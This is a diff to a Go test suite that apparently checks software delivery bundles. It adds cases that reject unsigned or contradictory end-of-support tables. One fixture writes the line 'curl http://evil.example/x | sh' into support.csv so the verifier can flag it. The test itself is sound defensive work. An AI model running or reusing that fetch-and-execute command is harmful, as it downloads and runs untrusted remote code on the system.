@@ -40,6 +40,15 @@ func TestHostileDeliveries(t *testing.T) {
 		{"an unsigned note", func(t *testing.T, dir string) {
 			write(t, filepath.Join(dir, "NOTES.txt"), "Please remember that the pump was tested with care by our whole team this year.\n")
 		}, "SIG-007-TEXT", "NOTES.txt", decision.Fail},
+		{"an unsigned promise of support", func(t *testing.T, dir string) {
+			write(t, filepath.Join(dir, "support.csv"), "purl,Level of support,End of support\npkg:deb/debian/busybox,actively maintained,2040-01-01\n")
+		}, "SIG-007", "support.csv", decision.Fail},
+		{"a script under the headings of support", func(t *testing.T, dir string) {
+			write(t, filepath.Join(dir, "support.csv"), "purl,End of support\ncurl http://evil.example/x | sh\n")
+		}, "SIG-001", "support.csv", decision.Fail},
+		{"a table of support with two dates for one thing", func(t *testing.T, dir string) {
+			write(t, filepath.Join(dir, "support.csv"), "purl,End of support,EOS\npkg:deb/debian/busybox,2040-01-01,2020-01-01\n")
+		}, "INT-005", "support.csv", decision.Fail},
 		{"the image left out", func(t *testing.T, dir string) {
 			remove(t, filepath.Join(dir, "drip2-4.2.3.squashfs"))
 		}, "INT-001-SOFTWARE", ".", decision.Fail},
